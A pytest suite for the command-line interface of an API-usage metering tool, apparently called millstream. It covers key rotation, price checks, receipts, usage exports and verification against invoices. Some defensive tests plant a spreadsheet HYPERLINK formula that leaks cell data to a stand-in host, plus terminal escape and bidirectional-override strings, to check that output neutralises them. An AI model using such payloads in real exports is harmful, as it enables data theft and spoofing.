"""Keys, prices, receipts and reports from the command line."""

import asyncio
import csv
import io
import json
import time
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from ledger_rows import opening, settlement
from millstream.auth import Keys
from millstream.cli import app
from millstream.database import Database
from millstream.errors import Unauthorized
from millstream.ledger import Ledger
from millstream.ledger.exports import Exports
from millstream.ledger.rows import Attempt
from millstream.meter import Meter
from millstream.schema import hours, keys, streams, user_hours
from millstream.usage import Charge, Usage


def millstream(*arguments: str, code: int = 0) -> str:
    done = CliRunner().invoke(app, [*arguments])
    assert done.exit_code == code, (arguments, done.output, done.exception)
    return done.stdout


def from_json(*arguments: str) -> Any:
    return json.loads(millstream(*arguments, "--json"))


def is_good(secret: str) -> bool:
    db = Database("sqlite:///millstream-data/millstream.db")
    try:
        asyncio.run(Keys(db).verify(secret))
    except Unauthorized:
        return False
    finally:
        db.close()
    return True


def test_a_key_is_made_changed_and_rotated() -> None:
    options = ("--owner", "acme", "--label", "plan=team", "--label", "x=", "--expires", "30d")
    made = from_json("keys", "create", "--name", "n", *options)
    assert (made["owner"], made["labels"]) == ("acme", {"plan": "team", "x": ""})
    assert made["expires_at"] == pytest.approx(made["created_at"] + 30 * 86_400, abs=60)
    rotated = from_json("keys", "rotate", made["id"], "--overlap", "1h")
    assert is_good(made["key"])
    assert is_good(rotated["key"])
    newest = millstream("keys", "rotate", made["id"], "--overlap", "0").strip()
    assert [is_good(secret) for secret in (made["key"], rotated["key"], newest)] == [False, False, True]
    changed = from_json("keys", "change", made["id"], "--expires", "never", "--label", "plan=free")
    assert (changed["expires_at"], changed["labels"], changed["name"]) == (None, {"plan": "free"}, "n")
    listed = millstream("keys", "list")
    assert "acme" in listed
    assert "plan=free" in listed


@pytest.mark.parametrize("date", ["9999-12-31", "0001-01-01", "999999d"])
def test_a_time_that_no_report_can_have_is_said(date: str) -> None:
    record()
    done = CliRunner().invoke(app, ["usage", "--by", "day", "--since", date])
    assert done.exit_code == 2
    assert "1970 to 9998" in done.stderr


def test_keys_that_expire_at_no_date_are_listed() -> None:
    made = from_json("keys", "create", "--name", "n")
    db = Database("sqlite:///millstream-data/millstream.db")
    db.run(lambda connection: connection.execute(sa.update(keys).values(expires_at=1e300)))
    db.close()
    listed = millstream("keys", "list")
    assert made["id"] in listed
    assert "1e+300" in listed


def record(*rows: dict[str, Any]) -> None:
    """Rows in the ledger of the data folder."""
    db = Database("sqlite:///millstream-data/millstream.db")
    try:
        db.migrate()

        async def write() -> None:
            for row in rows:
                await Meter(Ledger(db)).record("k", Usage(10, 5, "provider_final"), **row)

        asyncio.run(write())
    finally:
        db.close()


def test_models_in_use_without_a_price_are_listed_until_they_have_one(tmp_path: Path) -> None:
    record(
        {"model": "mine", "provider": "cluster"},
        {"model": "mine", "provider": "cluster"},
        {"model": "priced", "provider": "cluster", "cost_usd": Decimal(1)},
        {"model": "of-a-test", "provider": "cluster", "test": True},
    )
    (found,) = json.loads(millstream("prices", "check", "--json", code=1))
    assert (found["provider"], found["model"], found["streams"], found["tokens"]) == (
        "cluster",
        "mine",
        2,
        30,
    )
    assert "mine" in millstream("prices", "check", code=1)
    (tmp_path / "millstream.toml").write_text("[prices.mine]\nmarkup = 2\n")
    millstream("prices", "check", code=1)  # of a cost that nobody knows
    (tmp_path / "millstream.toml").write_text('[prices."cluster/mine"]\ninput = 1\noutput = 2\n')
    assert millstream("prices", "check") == ""


def test_prices_are_checked_in_the_tiers_and_for_the_kinds_of_tokens_that_streams_had(tmp_path: Path) -> None:
    record()

    async def write(db: Database) -> None:
        text = Usage(10, 5, "provider_final")
        sound = text.with_media((1, 0), (2, 0))
        async with Ledger(db) as ledger:
            for stream_id, usage, tier in (
                ("a", text, None),
                ("b", text, "flex"),
                ("c", text, "priority"),
                ("d", sound, None),
                ("e", sound, None),
            ):
                prices = None if tier is None else json.dumps({"date": stream_id, "tier": tier})
                await ledger.open(opening(stream_id))
                await ledger.settle(settlement(stream_id, usage=usage, charge=Charge(unit_prices=prices)))

    db = Database("sqlite:///millstream-data/millstream.db")
    asyncio.run(write(db))
    db.close()
    every = json.loads(millstream("prices", "check", "--json", code=1))
    assert sorted(one["streams"] for one in every) == [1, 1, 1, 2]
    (tmp_path / "millstream.toml").write_text(
        "[prices.m]\ninput = 1\noutput = 2\ntiers = {flex = {input = 1, output = 2}}\n"
    )
    found = json.loads(millstream("prices", "check", "--json", code=1))
    assert [(one["tier"], one["kinds"], one["streams"]) for one in found] == [
        (None, ["prompt_audio_tokens", "completion_audio_tokens"], 2),
        ("priority", [], 1),
    ]
    assert "priority" in millstream("prices", "check", code=1)


def test_a_receipt_is_printed() -> None:
    record({"model": "m", "provider": "p", "record_id": "mine", "cost_usd": Decimal("0.5"), "user": "[/ann]"})
    receipt = from_json("usage", "--stream", "mine")
    assert (receipt["stream_id"], receipt["cost_usd"]) == ("mine", "0.500000")
    assert (receipt["usage"]["prompt_tokens"], receipt["usage"]["source"]) == (10, "provider_final")
    lines = dict(line.split(maxsplit=1) for line in millstream("usage", "--stream", "mine").splitlines())
    assert lines["usage.total_tokens"].strip() == "15"
    assert lines["user"].strip() == "[/ann]"
    assert lines["ended_at"].strip().endswith("UTC")
    assert "error_code" not in lines
    missing = CliRunner().invoke(app, ["usage", "--stream", "str_none"])
    assert "there is no stream" in str(missing.exception)


def test_usage_is_crossed_and_printed_as_csv() -> None:
    record(
        {"model": "m", "provider": "p", "cost_usd": Decimal("0.5"), "user": "[/ann]"},
        {"model": "n", "provider": "p", "cost_usd": Decimal("0.25")},
        {"model": "n", "provider": "p"},
    )
    lines = millstream("usage", "--by", "month,model", "--csv").splitlines()
    headings, m, n = (line.split(",") for line in lines)
    assert headings[:3] == ["month", "model", "streams"]
    assert (m[1:3], n[1:3]) == (["m", "1"], ["n", "2"])
    totals = {total["group"]["user"]: total for total in from_json("usage", "--by", "user", "--percentiles")}
    assert (totals[None]["price_usd"], totals["[/ann]"]["price_usd"]) == ("0.250000", "0.500000")
    assert totals[None]["first_event_seconds"] == {"p50": None, "p90": None, "p95": None, "p99": None}
    table = millstream("usage", "--by", "user", "--percentiles", "--zone", "Europe/Paris", "--since", "7d")
    assert "[/ann]" in table
    assert "p95" in table
    assert CliRunner().invoke(app, ["usage", "--by", "planet"]).exit_code != 0


def test_every_stream_is_exported_once_the_oldest_first(monkeypatch: pytest.MonkeyPatch) -> None:
    record(*({"model": "m", "record_id": f"r{n}", "cost_usd": Decimal(n)} for n in range(3)))
    rows = list(csv.DictReader(io.StringIO(millstream("usage", "export"))))
    assert [row["stream_id"] for row in rows] == ["r0", "r1", "r2"]
    assert [row["price_usd"] for row in rows] == ["0.000000", "1.000000", "2.000000"]
    assert (rows[0]["prompt_tokens"], rows[0]["usage_source"]) == ("10", "provider_final")
    assert json.loads(rows[0]["attempts"])[0]["model"] == "m"
    assert rows[0]["limits"] == ""
    assert "owner_id" not in rows[0]
    lines = [json.loads(line) for line in millstream("usage", "export", "--format", "jsonl").splitlines()]
    assert [line["stream_id"] for line in lines] == ["r0", "r1", "r2"]
    assert lines[0]["usage"]["total_tokens"] == 15
    assert millstream("usage", "export", "--until", "2026-01-01", "--format", "jsonl") == ""


def test_sums_are_verified_and_what_differs_is_said() -> None:
    record({"model": "m"}, {"model": "m"})
    assert "2 streams" in millstream("usage", "verify")
    assert from_json("usage", "verify")["differences"] == []
    db = Database("sqlite:///millstream-data/millstream.db")
    db.run(lambda connection: connection.execute(sa.update(hours).values(prompt_tokens=1)))
    db.close()
    told = millstream("usage", "verify", code=1)
    assert "prompt_tokens" in told
    (found,) = json.loads(millstream("usage", "verify", "--json", code=1))["differences"]
    assert (found["what"], found["rows"], found["sums"]) == ("prompt_tokens", 20, 1)
    assert json.loads(millstream("usage", "verify", "--until", "2026-01-01", "--json"))["differences"] == []


def test_what_an_exporter_of_the_settings_was_not_given_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    record({"model": "m"})
    db = Database("sqlite:///millstream-data/millstream.db")
    for name in ("books", "of-the-past"):
        asyncio.run(Exports(db, lambda: 0.0).begin(name))
    db.close()
    assert "no difference" in millstream("usage", "verify")
    books = {"type": "cloudevents", "url": "http://127.0.0.1:9"}
    monkeypatch.setenv("MILLSTREAM_EXPORTERS", json.dumps({"books": books}))
    told = millstream("usage", "verify", code=1)
    assert "exporter=books" in told
    assert "and their exports to books" in told


def test_an_invoice_is_compared_and_what_differs_is_said(tmp_path: Path) -> None:
    record({"model": "gpt-4o", "provider": "openai"})
    now = int(time.time())
    headings = "start_time,model,num_model_requests,input_tokens,output_tokens,input_cached_tokens\n"
    invoice = tmp_path / "usage.csv"
    invoice.write_text(f"{headings}{now},gpt-4o-2024-08-06,1,10,5,0\n")
    assert "no difference" in millstream("usage", "verify", "--invoice", str(invoice))
    invoice.write_text(f"{headings}{now},gpt-4o-2024-08-06,1,10,6,0\n")
    (found,) = json.loads(millstream("usage", "verify", "--invoice", str(invoice), "--json", code=1))
    assert (found["model"], found["what"], found["ledger"], found["invoice"]) == (
        "gpt-4o",
        "completion_tokens",
        5,
        6,
    )
    assert "completion_tokens" in millstream("usage", "verify", "--invoice", str(invoice), code=1)
    millstream("usage", "verify", "--invoice", str(invoice), "--since", "1d", code=2)
    for wrong in (b"\xff\xfex", b"\xff"):
        invoice.write_bytes(wrong)
        millstream("usage", "verify", "--invoice", str(invoice), code=2)
    invoice.write_text(headings)
    done = CliRunner().invoke(app, ["usage", "verify", "--invoice", str(invoice)])
    assert "has no day in it" in str(done.exception)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_an_invoice_may_be_as_a_spreadsheet_saves_it(tmp_path: Path, encoding: str) -> None:
    record({"model": "gpt-4o", "provider": "openai"})
    invoice = tmp_path / "usage.csv"
    headings = '"start_time";"model";"num_model_requests";"input_tokens";"output_tokens"'
    text = f'{headings}\r\n{int(time.time())};"gpt-4o";1;10;5\r\n'
    invoice.write_text(text, encoding=encoding, newline="")
    assert "no difference" in millstream("usage", "verify", "--invoice", str(invoice))


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ("usage --data-dir nowhere --since 2027-01-01 verify", "put --since, --data-dir behind `verify`"),
        ("usage --since garbage export", "put --since behind `export`"),
        ("usage --json verify", "put --json behind `verify`"),
        ("exports --data-dir nowhere retry books", "put --data-dir behind `retry`"),
        ("usage verify --provider nobody", "--provider is whose --invoice it is; give both, or neither"),
    ],
)
def test_an_option_that_would_not_be_looked_at_is_refused(arguments: str, words: str) -> None:
    record()
    done = CliRunner().invoke(app, arguments.split())
    assert (done.exit_code, done.stderr) == (2, f"millstream: {words}\n")


def test_no_exporter_is_told_from_one_for_which_nothing_has_failed(tmp_path: Path) -> None:
    record()
    (tmp_path / "millstream.toml").write_text(
        '[exporters.books]\ntype = "webhook"\nurl = "https://a.test/"\nsecret = "whsec_' + "A" * 32 + '"\n'
    )
    assert "0 streams" in millstream("exports", "retry", "books")
    done = CliRunner().invoke(app, ["exports", "retry", "bosok"])
    assert (done.exit_code, done.stderr) == (
        1,
        "millstream: there is no exporter 'bosok', and nothing waits for one\n",
    )


def test_no_name_is_a_formula_in_a_spreadsheet() -> None:
    record({"model": "-m", "provider": "p", "user": '=HYPERLINK("http://x/?"&A1)'}, {"model": "m"})
    (named, plain) = list(csv.reader(io.StringIO(millstream("usage", "--by", "user,model", "--csv"))))[1:]
    cells = sorted([named[:2], plain[:2]])
    assert cells == [["", "m"], ['\'=HYPERLINK("http://x/?"&A1)', "'-m"]]
    rows = csv.DictReader(io.StringIO(millstream("usage", "export")))
    assert sorted(row["model"] for row in rows) == ["'-m", "m"]


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_part_of_a_name_is_a_formula_in_a_spreadsheet(separator: str) -> None:
    names = ["=1", "＝1", "＋1", "－1", "＠x", "a;=1", "a;＝1", 'a;"=1', "a;b;-1", "a;@x"]
    record(*({"model": name, "user": f"u;{name}"} for name in names), {"model": "a; b=1-2"})
    for table in (("usage", "--by", "user,model", "--csv"), ("usage", "export")):
        text = millstream(*table)
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.lstrip('"').startswith(tuple("=+-@＝＋－＠"))]
        assert "a; b=1-2" in text


def test_json_in_a_table_says_what_it_did() -> None:
    async def write(db: Database) -> None:
        async with Ledger(db) as ledger:
            await ledger.open(opening())
            await ledger.settle(settlement(attempts=(Attempt("a;=p", "=m", 1, 2), Attempt("b", "m", 2, 3))))

    record()
    db = Database("sqlite:///millstream-data/millstream.db")
    asyncio.run(write(db))
    db.close()
    (row,) = csv.DictReader(io.StringIO(text := millstream("usage", "export")))
    assert [one["provider"] for one in json.loads(row["attempts"])] == ["a;=p", "b"]
    assert ";=" not in text


def test_no_name_is_obeyed_by_the_terminal() -> None:
    record({"model": "m", "user": "u", "record_id": "s"})
    evil = {name: f"\x1b]0;{name}\x07\n[red]\u202e" for name in ("user", "model")}
    db = Database("sqlite:///millstream-data/millstream.db")
    db.run(lambda c: [c.execute(sa.update(table).values(evil)) for table in (user_hours, streams)])
    db.close()
    for table, code in (
        (("usage", "--by", "user,model"), 0),
        (("usage", "--stream", "s"), 0),
        (("usage", "verify"), 1),
        (("prices", "check"), 1),
    ):
        told = millstream(*table, code=code)
        assert r"\x1b]0;model\x07\n[red]\u202e" in told
        assert all(line.isprintable() for line in told.splitlines())


@pytest.mark.parametrize(
    "arguments",
    [
        ("create", "--name", "n", "--label", "plan"),
        ("create", "--name", "n", "--expires", "2020-01-01"),
        ("rotate", "key_x", "--overlap", "soon"),
        ("rotate", "key_x"),
        ("change", "key_x", "--name", "m"),
    ],
)
def test_what_makes_no_sense_changes_nothing(arguments: tuple[str, ...]) -> None:
    made = from_json("keys", "create", "--name", "n")
    done = CliRunner().invoke(app, ["keys", *arguments])
    assert done.exit_code != 0
    assert [key["id"] for key in from_json("keys", "list")] == [made["id"]]
    assert is_good(made["key"])
